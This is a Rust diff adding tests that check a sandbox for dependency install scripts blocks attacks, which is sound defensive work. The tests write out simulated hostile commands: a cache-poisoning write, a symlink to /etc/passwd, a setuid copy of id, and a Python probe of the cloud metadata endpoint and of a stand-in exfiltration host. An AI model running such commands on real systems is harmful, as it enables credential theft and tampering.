@@ -152,3 +152,128 @@ async fn what_a_survey_asks_for_is_enough() {
     let JailBody::Text(diff) = diff.body else { panic!() };
     assert!(!diff.text.text_or_empty().contains("node_modules"), "{}", diff.text.text_or_empty());
 }
+
+/// What an attacker writes in an install script, and in another project with the very same manifests.
+fn script(text: &str) -> Vec<Vec<String>> {
+    vec![vec!["sh".into(), "-ec".into(), text.into()]]
+}
+
+async fn exit_code(scene: &Scene, toolchain: Toolchain, key: &str, text: &str) -> (bool, i32, String) {
+    let report = scene.done(JailOp::Prepare { toolchain, commands: script(text), cache_key: key.into() }).await;
+    let JailBody::Prepared { cached, log, exit_code } = report.body else { panic!("{report:?}") };
+    (cached, exit_code, log.text_or_empty().to_owned())
+}
+
+#[tokio::test]
+async fn what_one_project_installed_is_never_given_to_another() {
+    let Some(mut scene) = Scene::new("what_one_project_installed") else { return };
+    scene.repository(&[("requirements.txt", "six\n")]);
+    scene.open(true).await;
+    let poison = "mkdir -p /cache/python/k1/venv; echo poisoned > /cache/python/k1/venv/mark";
+    assert!(!exit_code(&scene, Toolchain::Python, "k1", poison).await.0);
+    // The same manifests in another folder.
+    let first = std::mem::replace(&mut scene.user, scene.dir.path().join("victim"));
+    std::fs::create_dir(&scene.user).unwrap();
+    scene.repository(&[("requirements.txt", "six\n")]);
+    scene.run = keiko_contracts::id::RunId::from_bytes([8; 10]);
+    scene.open(true).await;
+    let (cached, code, _) = exit_code(&scene, Toolchain::Python, "k1", "ls -A /cache/python/k1; test ! -e /cache/python/k1/venv").await;
+    assert_eq!((cached, code), (false, 0), "the other project's folder was given");
+    let (exec, _) = scene.sh("cat /cache/python/k1/venv/mark; ls /cache/python").await;
+    assert_eq!(exec.stdout.text_or_empty(), "k1\n", "{exec:?}");
+    // The first project still has its own, also over a link to its folder.
+    std::os::unix::fs::symlink(&first, scene.dir.path().join("alias")).unwrap();
+    scene.user = scene.dir.path().join("alias");
+    scene.run = keiko_contracts::id::RunId::from_bytes([9; 10]);
+    scene.open(true).await;
+    assert!(exit_code(&scene, Toolchain::Python, "k1", "exit 1").await.0);
+}
+
+#[tokio::test]
+async fn what_is_installed_is_nobodys_to_change() {
+    use std::os::unix::fs::MetadataExt as _;
+    let test = "what_is_installed_is_nobodys_to_change";
+    let Some(scene) = Scene::new(test) else { return };
+    scene.repository(&[("requirements.txt", "six\n")]);
+    scene.open(true).await;
+    let text = "cd /cache/python/k1; mkdir -p venv/bin; echo x > venv/f; echo 'echo tool' > venv/bin/tool; chmod 700 venv/bin/tool venv; chmod 600 venv/f; ln -s /etc/passwd venv/l; cp /usr/bin/id venv/id; chmod 6755 venv/id";
+    assert_eq!(exit_code(&scene, Toolchain::Python, "k1", text).await.1, 0);
+    let (exec, _) = scene.sh("cd /cache/python/k1/venv && cat f && sh bin/tool; echo y > f; rm f; touch new; chmod 777 .; true").await;
+    assert_eq!(exec.stdout.text_or_empty(), "x\ntool\n", "{exec:?}");
+    let sets = scene.dir.path().join("cache/deps/python");
+    let set = std::fs::read_dir(&sets).unwrap().flatten().map(|e| e.path()).find(|p| p.is_dir()).unwrap();
+    for file in ["venv/f", "venv/bin/tool", "venv/id"] {
+        let mode = std::fs::metadata(set.join(file)).unwrap().mode();
+        assert_eq!(mode & 0o7222, 0, "{file}: {mode:o}");
+    }
+    if !rustix::process::geteuid().is_root() {
+        // Nobody else can take files over: the read-only mount and Landlock are what holds then, as tried above.
+        return;
+    }
+    // Even a jail that was given the folder to write, by a mistake of ours, cannot.
+    let jail = crate::kit::jail(test).unwrap();
+    let mount = keiko_sandbox::spec::Mount { host: set.clone(), inside: "/set".into(), writable: true };
+    let spec = keiko_sandbox::spec::JailSpec {
+        argv: ["/bin/sh", "-c", "cd /set/venv; (echo y > f) 2>/dev/null && echo wrote; rm -f f 2>/dev/null && echo removed; touch new 2>/dev/null && echo made; chmod 777 . 2>/dev/null && echo opened; cat f"]
+            .map(str::to_owned)
+            .into(),
+        cwd: "/tmp".into(),
+        env: Default::default(),
+        mounts: vec![mount],
+        limits: Default::default(),
+        network: Default::default(),
+        stdin: vec![],
+    };
+    let output = jail.run(spec, keiko_ports::live::LiveSink::none(), keiko_ports::Cancel::new()).await.unwrap();
+    assert_eq!(String::from_utf8_lossy(&output.stdout.head), "x\n", "{output:?}");
+}
+
+#[tokio::test]
+async fn a_link_in_place_of_installed_modules_leads_nowhere() {
+    let Some(scene) = Scene::new("a_link_in_place_of_installed_modules") else { return };
+    let secret = scene.dir.path().join("secret");
+    std::fs::create_dir(&secret).unwrap();
+    std::fs::write(secret.join("index.js"), "canary").unwrap();
+    use std::os::unix::fs::PermissionsExt as _;
+    for folder in [scene.dir.path(), &secret] {
+        std::fs::set_permissions(folder, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    scene.repository(&[("package.json", r#"{"name":"x","dependencies":{"a":"1"}}"#), (".gitignore", "node_modules\n")]);
+    scene.open(true).await;
+    let JailBody::Surveyed(survey) = scene.done(JailOp::Survey).await.body else { panic!() };
+    let key = survey.projects[0].cache_key.clone();
+    let text = format!("ln -s {} /cache/node/{key}/node_modules", secret.display());
+    assert_eq!(exit_code(&scene, Toolchain::Node, &key, &text).await.1, 0);
+    let (exec, _) =
+        scene.sh(&format!("cat node_modules/index.js /cache/node/{key}/node_modules/index.js; ls node_modules; echo end")).await;
+    assert_eq!(exec.stdout.text_or_empty(), "end\n", "{exec:?}");
+}
+
+#[tokio::test]
+async fn an_install_script_reaches_registries_and_nothing_else() {
+    let Some(scene) = Scene::new("an_install_script_reaches_registries") else { return };
+    let host = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    host.set_nonblocking(true).unwrap();
+    let port = host.local_addr().unwrap().port();
+    scene.repository(&[("a", "a")]);
+    scene.open(true).await;
+    let text = format!(
+        "cat > /tmp/t.py <<'E'
+import os, socket, urllib.request
+def direct(to):
+    try: socket.create_connection(to, timeout=3); return 'ok'
+    except OSError as e: return 'no'
+print([direct(to) for to in [('127.0.0.1', {port}), ('169.254.169.254', 80), ('1.1.1.1', 53), ('192.168.0.1', 80)]])
+for url in ['http://127.0.0.1:{port}/', 'http://169.254.169.254/latest/meta-data/', 'http://exfiltrate.example/?key=1']:
+    try: print(urllib.request.urlopen(url, timeout=20).status)
+    except urllib.error.HTTPError as e: print(e.code)
+print(sorted(k for k, v in os.environ.items() if v == 'http://127.0.0.1:3128')[:3], 'NO_PROXY' in os.environ)
+E
+/usr/bin/python3 /tmp/t.py"
+    );
+    let (_, code, log) = exit_code(&scene, Toolchain::Python, "k1", &text).await;
+    assert_eq!(code, 0, "{log}");
+    assert!(log.contains("['no', 'no', 'no', 'no']\n403\n403\n403\n['ALL_PROXY', 'CARGO_HTTP_PROXY', 'HTTPS_PROXY'] False\n"), "{log}");
+    assert!(log.contains("refused connections while installing") && log.contains("exfiltrate.example:80: it is not on the list"), "{log}");
+    assert!(host.accept().is_err(), "the host's server was reached");
+}
